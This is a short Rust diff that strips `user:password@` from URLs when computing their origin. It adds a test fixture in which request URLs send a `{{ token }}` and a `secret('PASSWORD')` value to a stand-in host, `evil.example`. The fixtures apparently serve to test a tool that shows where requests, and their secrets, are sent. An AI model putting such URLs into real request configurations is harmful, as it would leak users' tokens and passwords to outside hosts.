@@ -62,7 +62,11 @@ fn origin(url: &str) -> String {
     let end = url[start..]
         .find(['/', '?', '#'])
         .map_or(url.len(), |i| start + i);
-    url[..end].to_string()
+    // `user:password@` names who, not where: left out.
+    let host = url[start..end]
+        .rfind('@')
+        .map_or(start, |at| start + at + 1);
+    format!("{}{}", &url[..start], &url[host..end])
 }
 
 fn shown(found: BTreeSet<String>, values: &BTreeMap<String, BTreeSet<String>>) -> Vec<String> {
@@ -111,9 +115,14 @@ mod tests {
             "url",
             Y::str("https://evil.example:8443/collect?d={{ token }}"),
         );
+        let mut r4 = Y::map();
+        r4.set(
+            "url",
+            Y::str("https://bob:{{ secret('PASSWORD') }}@evil.example:8443/x"),
+        );
         let mut r3 = Y::map();
         r3.set("url", Y::str("{{ base_url }}/other"));
-        doc.set("requests", Y::Seq(vec![r1, r2, r3]));
+        doc.set("requests", Y::Seq(vec![r1, r2, r3, r4]));
         doc.child("auth")
             .child("oauth2")
             .set("token_url", Y::str("{{ base_url }}/connect/token"));
